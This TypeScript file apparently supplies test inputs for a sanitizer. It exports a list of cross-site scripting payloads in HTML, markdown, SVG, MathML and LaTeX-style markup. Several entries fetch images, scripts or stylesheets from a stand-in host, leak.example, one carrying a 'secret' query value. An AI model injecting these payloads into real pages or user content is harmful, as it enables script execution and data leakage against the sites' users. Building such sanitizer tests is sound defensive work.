/**
 * Text that tries to run code or to fetch something in a page that renders it carelessly.
 *
 * `alarm()` is the code to be run; anything fetched would go to `leak.example`.
 */

const HTML = [
  "<script>alarm()</script>",
  "<script src=https://leak.example/1.js></script>",
  "<ScRiPt>alarm()</sCrIpT>",
  "<img src=x onerror=alarm()>",
  "<img src='https://leak.example/2.png'>",
  '<img/src="https://leak.example/3.png"/onload="alarm()">',
  "<svg onload=alarm()></svg>",
  "<svg><script>alarm()</script></svg>",
  '<svg><image href="https://leak.example/4.png"/></svg>',
  "<svg><animate onbegin=alarm() attributeName=x dur=1s></svg>",
  "<math><mtext><mglyph><style><img src=x onerror=alarm()>",
  '<math href="javascript:alarm()">click</math>',
  "<iframe src=javascript:alarm()></iframe>",
  "<iframe srcdoc='<script>parent.alarm()</script>'></iframe>",
  "<iframe src=https://leak.example/5></iframe>",
  "<object data=https://leak.example/6></object>",
  "<embed src=https://leak.example/7>",
  "<body onload=alarm()>",
  "<details open ontoggle=alarm()>x</details>",
  "<input autofocus onfocus=alarm()>",
  "<video><source onerror=alarm()></video>",
  "<video poster=https://leak.example/8.png></video>",
  "<audio src=https://leak.example/9.mp3 autoplay></audio>",
  "<link rel=stylesheet href=https://leak.example/10.css>",
  "<link rel=prefetch href=https://leak.example/11>",
  "<style>@import url(https://leak.example/12.css)</style>",
  "<style>body{background:url(https://leak.example/13.png)}</style>",
  "<p style='background:url(https://leak.example/14.png)'>x</p>",
  "<meta http-equiv=refresh content='0;url=https://leak.example/15'>",
  "<base href=https://leak.example/16/>",
  "<form action=javascript:alarm()><button>x</button></form>",
  "<a href=javascript:alarm()>x</a>",
  "<a ping=https://leak.example/17 href=#>x</a>",
  "<template><script>alarm()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alarm()>'>",
  "<!--><img src=x onerror=alarm()>-->",
  "<![CDATA[<img src=x onerror=alarm()>]]>",
  "<div\nonmouseover=alarm()\nautofocus tabindex=1 onfocus=alarm()>x</div>",
  "<marquee onstart=alarm()>x</marquee>",
  "&lt;img src=x onerror=alarm()&gt; &#60;script&#62;alarm()&#60;/script&#62;",
];

const ADDRESSES = [
  "[x](javascript:alarm())",
  "[x](JaVaScRiPt:alarm())",
  "[x](javascript&colon;alarm())",
  "[x](&#106;avascript:alarm())",
  "[x](<java\tscript:alarm()>)",
  "[x](\u0001javascript:alarm())",
  "[x](data:text/html,<script>alarm()</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGFybSgpPC9zY3JpcHQ+)",
  "[x](vbscript:alarm())",
  "[x](blob:https://leak.example/18)",
  "[x]: javascript:alarm()\n\n[x]",
  "<javascript:alarm()>",
  "[x](https://x.example \"\" onclick='alarm()')",
  '[x](https://x.example/"onmouseover="alarm())',
  "[![x](https://leak.example/19.png)](javascript:alarm())",
];

const IMAGES = [
  "![x](https://leak.example/20.png)",
  "![x](http://leak.example/21.png?secret=1)",
  "![x](//leak.example/22.png)",
  "![x](javascript:alarm())",
  "![x](data:image/svg+xml,<svg onload=alarm()>)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsYXJtKCkiPg==)",
  '![x" onerror="alarm()](https://leak.example/23.png)',
  '![x](https://leak.example/24.png "t" onerror=alarm())',
  "![x][r]\n\n[r]: https://leak.example/25.png",
];

const CONTEXTS = [
  "| <img src=x onerror=alarm()> |\n|---|\n| ![x](https://leak.example/26.png) |",
  "- <script>alarm()</script>\n- ![x](https://leak.example/27.png)",
  "> <svg onload=alarm()>",
  "# <img src=x onerror=alarm()>",
  '```"><img src=x onerror=alarm()>\n</code></pre><script>alarm()</script>\n```',
  "```html\n<img src=x onerror=alarm()>\n```",
  "`<img src=x onerror=alarm()>`",
  "$\\href{javascript:alarm()}{x}$",
  "$$\n\\includegraphics{https://leak.example/28.png}\n$$",
  "\\(\\htmlData{x=<img src=x onerror=alarm()>}{y}\\)",
  "$$<img src=x onerror=alarm()>$$",
  "\\[\\text{</mtext><img src=x onerror=alarm()>}\\]",
  "$\\style{background:url(https://leak.example/29.png)}{x}$",
];

export const PAYLOADS: readonly string[] = [...HTML, ...ADDRESSES, ...IMAGES, ...CONTEXTS];
